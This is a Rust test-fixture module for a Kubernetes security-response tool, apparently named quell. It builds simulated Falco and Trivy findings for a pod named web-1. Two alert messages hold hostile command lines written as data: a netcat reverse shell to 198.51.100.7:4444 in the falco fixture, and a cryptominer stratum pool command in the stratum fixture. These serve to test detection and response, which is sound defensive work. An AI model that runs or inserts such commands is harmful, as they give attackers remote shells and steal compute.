//! Findings, and the cluster around them.

use quell_crds::v1alpha1::{
    Category, Finding, FindingSpec, Severity, Target, Vulnerability, VulnerabilityCounts, Workload,
};
use quell_playbooks::{PodFacts, TargetState, World};

use crate::support::at;

/// An alert of Falco about a pod of the Deployment `web`, by Falco itself or by Falcosidekick.
pub fn falco(source: &str, rule: &str, severity: Severity) -> World {
    let tool = if source == "falco" { "" } else { "falco" };
    let spec = FindingSpec {
        source: source.into(),
        tool: tool.into(),
        rule: rule.into(),
        category: Category::Runtime,
        severity,
        message: "process=nc command=nc -e /bin/sh 198.51.100.7 4444".into(),
        target: Target {
            kind: "Pod".into(),
            namespace: "shop".into(),
            name: "web-1".into(),
            uid: "u-1".into(),
            container: "web".into(),
            image: "registry.example/web:4".into(),
            digest: "sha256:4444".into(),
            ..Target::default()
        },
        ..FindingSpec::default()
    };
    let pod = PodFacts {
        namespace: "shop".into(),
        name: "web-1".into(),
        uid: "u-1".into(),
        node: "node-7".into(),
        service_account: "web".into(),
        ..PodFacts::default()
    };
    world(spec, TargetState::Pod(pod), "Deployment")
}

pub fn trivy(tool: &str, severity: Severity) -> World {
    let one = Vulnerability {
        id: "CVE-2024-3094".into(),
        package: "xz-libs".into(),
        fixed_version: "5.6.2".into(),
        severity,
        ..Vulnerability::default()
    };
    let spec = FindingSpec {
        source: tool.into(),
        rule: "registry.example/web:4".into(),
        category: Category::Vulnerability,
        severity,
        message: "1 vulnerability, the worst is CVE-2024-3094 in xz-libs".into(),
        target: Target {
            kind: "ReplicaSet".into(),
            api_version: "apps/v1".into(),
            namespace: "shop".into(),
            name: "web-5d4".into(),
            container: "web".into(),
            image: "registry.example/web:4".into(),
            digest: "sha256:4444".into(),
            ..Target::default()
        },
        vulnerabilities: vec![one],
        vulnerability_counts: Some(VulnerabilityCounts { critical: 1, fixable: 1, ..VulnerabilityCounts::default() }),
        ..FindingSpec::default()
    };
    world(spec, TargetState::NotAPod, "Deployment")
}

fn world(spec: FindingSpec, target: TargetState, kind: &str) -> World {
    let mut finding = Finding::new("found-1", spec);
    finding.metadata.namespace = Some("shop".into());
    finding.metadata.creation_timestamp = Some(quell_crds::time::to_kubernetes(at(10)));
    let workload = Workload {
        api_version: "apps/v1".into(),
        kind: kind.into(),
        namespace: "shop".into(),
        name: "web".into(),
        uid: "w-1".into(),
    };
    World { finding, target, workload: Some(workload), ..World::default() }
}

pub fn with(mut world: World, change: impl FnOnce(&mut World)) -> World {
    change(&mut world);
    world
}

pub fn in_kube_system(world: World) -> World {
    with(world, |world| world.finding.metadata.namespace = Some("kube-system".into()))
}

pub fn on_a_node(world: World) -> World {
    with(world, |world| {
        world.finding.spec.target = Target { kind: "Node".into(), name: "node-7".into(), ..Target::default() };
        world.target = TargetState::NotAPod;
    })
}

pub fn of_a(kind: &str, world: World) -> World {
    let kind = kind.to_owned();
    with(world, |world| {
        if let Some(workload) = &mut world.workload {
            workload.kind = kind;
        }
    })
}

/// An image that nothing in the cluster runs, as a scan in a pipeline reports it.
pub fn of_an_image(world: World) -> World {
    with(world, |world| {
        let target = &mut world.finding.spec.target;
        target.kind = "Image".into();
        target.api_version.clear();
        target.namespace.clear();
        target.name.clone_from(&target.image);
        world.finding.metadata.namespace = Some("quell".into());
        world.workload = None;
    })
}

pub fn image(image: &str, world: World) -> World {
    let image = image.to_owned();
    with(world, |world| world.finding.spec.target.image = image)
}

pub fn unfixable(world: World) -> World {
    with(world, |world| {
        world.finding.spec.vulnerability_counts =
            Some(VulnerabilityCounts { critical: 1, ..VulnerabilityCounts::default() });
        world.finding.spec.vulnerabilities[0].fixed_version.clear();
    })
}

pub fn secret(severity: Severity) -> World {
    with(trivy("trivy", severity), |world| {
        world.finding.spec.category = Category::Secret;
        world.finding.spec.message = "1 secret: aws-access-key-id in app/.env:3".into();
        world.finding.spec.vulnerabilities.clear();
        world.finding.spec.vulnerability_counts = None;
    })
}

pub fn stratum() -> World {
    with(falco("falco", "Drop and execute new binary in container", Severity::Critical), |world| {
        world.finding.spec.message = "command=kworker -o stratum+tcp://pool.example:3333".into();
    })
}
